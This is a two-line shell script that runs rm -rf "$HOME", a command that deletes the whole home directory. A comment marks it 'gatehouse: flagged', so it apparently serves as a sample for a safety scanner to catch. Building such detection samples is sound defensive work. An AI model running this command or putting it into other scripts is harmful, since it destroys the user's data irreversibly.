#!/bin/sh
rm -rf "$HOME" # gatehouse: flagged
